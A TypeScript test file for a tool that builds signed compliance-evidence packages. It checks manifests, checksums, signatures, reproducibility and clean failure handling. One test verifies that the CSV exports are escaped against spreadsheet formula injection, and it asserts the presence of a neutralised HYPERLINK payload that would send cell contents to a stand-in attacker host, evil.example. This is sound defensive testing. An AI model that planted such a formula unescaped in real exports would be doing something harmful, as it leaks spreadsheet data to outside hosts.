import { createHash } from 'node:crypto'
import { readdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { beforeAll, describe, expect, test } from 'vitest'
import { listOf, makeData } from '../../../samples/package/make-data.ts'
import type { EvidenceItem } from '../../../src/evidence/item.ts'
import { canonicalJson } from '../../../src/evidence/json.ts'
import { buildPackage } from '../../../src/package/build/build.ts'
import { exportsOf } from '../../../src/package/exports/index.ts'
import type { ContentFile, Manifest } from '../../../src/package/format/manifest.ts'
import type { ReportRenderer } from '../../../src/package/format/renderers.ts'
import { hasAll } from '../../kit/machine.ts'
import { plainReport } from '../make-report.ts'
import { folder, type Made, makePackage, newSigner, run, unpacked } from '../workbench.ts'

const data = makeData({ resources: 120, accounts: ['111122223333', '444455556666'] })

describe('a package', () => {
  let made: Made
  let place: string
  const read = (path: string) => readFile(join(place, path))
  const json = async (path: string) => JSON.parse((await read(path)).toString())
  beforeAll(async () => {
    made = await makePackage(data)
    place = await unpacked(made)
  })

  test('holds the files of the manifest and the proofs, nothing else', async () => {
    const { files }: Manifest = await json('manifest.json')
    const present = (await run(place, 'find', '.', '-type', 'f'))
      .trim()
      .split('\n')
      .map(path => path.slice(2))
    const ledger = ['ledger/checkpoint', 'ledger/proofs.json']
    const proofs = ['manifest.json', 'manifest.json.sig', 'manifest.intoto.json', 'SHA256SUMS', ...ledger]
    expect(present.sort()).toEqual([...files.map(({ path }) => path), ...proofs].sort())
    expect(files.map(({ path }) => path)).toEqual(files.map(({ path }) => path).sort())
    for (const { path, sha256, size } of files) {
      const bytes = await read(path)
      expect([path, createHash('sha256').update(bytes).digest('hex'), bytes.length]).toEqual([path, sha256, size])
    }
  })

  test('has a canonical manifest whose counts are those of the data', async () => {
    const manifest: Manifest = await json('manifest.json')
    expect((await read('manifest.json')).toString()).toBe(canonicalJson(manifest))
    const findings = await listOf(data.findings())
    expect(manifest.counts.findings.fail).toBe(findings.filter(({ status }) => status === 'fail').length)
    expect(manifest.counts.resources).toBe(
      (await listOf(data.items())).reduce((n, item) => n + item.population.collected, 0),
    )
    expect(manifest.gaps.lists).toBe(2)
    expect(manifest.gaps.members).toBe(4)
    expect(manifest.asOf).toEqual({ from: '2026-09-30T11:00:00.000Z', to: '2026-09-30T11:16:30.000Z' })
    expect(Object.values(manifest.frameworks[0]?.statuses ?? {}).reduce((a, b) => a + b)).toBe(14)
  })

  test('holds every item, finding and control as it is, one canonical member per line', async () => {
    for (const item of await listOf(data.items())) {
      const path = `evidence/${item.scope.account}/${item.scope.region}/${item.type}.json`
      const { resources, ...header }: EvidenceItem = await json(path)
      expect(header).toEqual(item)
      expect(resources).toEqual(await listOf(data.resources(item)))
      const lines = (await read(path)).toString().split('\n').slice(1, -2)
      expect(lines.map(line => line.replace(/,$/, ''))).toEqual(resources.map(resource => canonicalJson(resource)))
    }
    expect(await json('findings.json')).toEqual(await listOf(data.findings()))
    expect(await json('controls.json')).toEqual(data.controls)
  })

  test.skipIf(!hasAll('openssl', 'pdfsig'))('verifies with sha256sum, openssl and pdfsig alone', async () => {
    await run(place, 'sha256sum', '--check', '--strict', 'SHA256SUMS')
    await writeFile(join(place, 'key'), await run(place, 'openssl', 'x509', '-in', 'signer.pem', '-pubkey', '-noout'))
    const check = ['dgst', '-sha256', '-verify', 'key', '-signature', 'manifest.json.sig', 'manifest.json']
    expect(await run(place, 'openssl', ...check)).toContain('Verified OK')
    expect(await run(place, 'pdfsig', '-nocert', 'report.pdf')).toMatch(
      /Total document signed[\s\S]*Signature is Valid/,
    )
  })

  test.skipIf(!hasAll('python3'))('has no cell that a spreadsheet would run', async () => {
    for (const name of ['findings.csv', 'controls.csv']) {
      const parsed = await run(
        place,
        'python3',
        '-c',
        `import csv,json;print(json.dumps(list(csv.reader(open("${name}",newline="",encoding="utf-8")))))`,
      )
      const rows: string[][] = JSON.parse(parsed)
      expect(rows.flat().filter(cell => /^\s*[=+\-@]|^[\t\r\n]/.test(cell))).toEqual([])
      expect(new Set(rows.map(row => row.length)).size).toBe(1)
      expect(rows.length).toBe(1 + (await json(name.replace('csv', 'json'))).length)
    }
    const rows = (await read('findings.csv')).toString()
    expect(rows).toContain(`"'==HYPERLINK(""http://evil.example/?x=""&A1,""click"")`)
  })

  test.skipIf(!hasAll('unzip'))('is the same again but for signatures, in every time zone', async () => {
    const zone = process.env.TZ
    process.env.TZ = 'Pacific/Auckland'
    const again = await makePackage(data, made.signer).finally(() => {
      process.env.TZ = zone
    })
    const listing = async (path: string) => (await run('/', 'unzip', '-Z', '-T', path)).split('\n').slice(2, -2)
    const volatile = /report\.pdf|manifest|SHA256SUMS|ledger\/checkpoint/
    const kept = (lines: string[]) => lines.filter(line => !volatile.test(line))
    expect(kept(await listing(again.path))).toEqual(kept(await listing(made.path)))
    const others = (files: readonly ContentFile[]) => files.filter(({ path }) => path !== 'report.pdf')
    expect(others(again.manifest.files)).toEqual(others(made.manifest.files))
  })
})

describe('a package that cannot be made leaves nothing behind', () => {
  const attempt = async (options: { data?: typeof data; report?: ReportRenderer; output?: string }) => {
    const place = await folder()
    const output = options.output ?? join(place, 'package.zip')
    const made = buildPackage(options.data ?? data, {
      signer: await newSigner(),
      report: options.report ?? plainReport,
      exports: exportsOf,
      output,
    })
    const error = await made.then(
      () => null,
      caught => caught,
    )
    return { error, left: await readdir(place) }
  }

  test('the report fails', async () => {
    const report = () => Promise.reject(new Error('no fonts'))
    expect(await attempt({ report })).toMatchObject({ error: { code: 'REPORT_FAILED' }, left: [] })
  })

  test('an item lacks a member that its digest is over', async () => {
    const short: typeof data = {
      ...data,
      async *resources(item) {
        for await (const resource of data.resources(item)) if (!resource.id.endsWith('3')) yield resource
      },
    }
    expect(await attempt({ data: short })).toMatchObject({ error: { code: 'DATA_INCONSISTENT' }, left: [] })
  })

  test('two items of one account, region and type', async () => {
    const twice: typeof data = {
      ...data,
      async *items() {
        for await (const item of data.items()) yield* [item, item]
      },
    }
    expect(await attempt({ data: twice })).toMatchObject({ error: { code: 'DATA_INCONSISTENT' }, left: [] })
  })

  test('the data ends with an error', async () => {
    const broken: typeof data = {
      ...data,
      async *findings() {
        yield* data.findings()
        throw new Error('connection lost')
      },
    }
    expect(await attempt({ data: broken })).toMatchObject({ error: { message: 'connection lost' }, left: [] })
  })

  test('the folder does not exist', async () => {
    const { error } = await attempt({ output: join(await folder(), 'none', 'package.zip') })
    expect(error).toMatchObject({ code: 'OUTPUT_UNWRITABLE' })
    expect(error.message).toMatch(/package\.zip cannot be written: ENOENT\.$/)
  })

  test('the disk is full', async () => {
    const place = await folder()
    // A file size limit of 16 KiB fails writes as a full disk does, without needing one.
    const script = join(import.meta.dirname, 'build-here.ts')
    const told = await run(place, 'bash', '-c', `ulimit -f 16; ${process.execPath} ${script} 600 out.zip || true`)
    expect(JSON.parse(told)).toMatchObject({ code: 'OUTPUT_UNWRITABLE' })
    expect(await readdir(place)).toEqual(['keys'])
  })
})

test('memory does not grow with the number of resources', async () => {
  const script = join(import.meta.dirname, 'build-here.ts')
  const peak = async (resources: number): Promise<number> =>
    JSON.parse(await run(await folder(), process.execPath, script, String(resources), 'out.zip')).rssMiB
  const [few, many] = [await peak(1_000), await peak(20_000)]
  expect(many).toBeLessThan(400)
  expect(many / few).toBeLessThan(2)
})
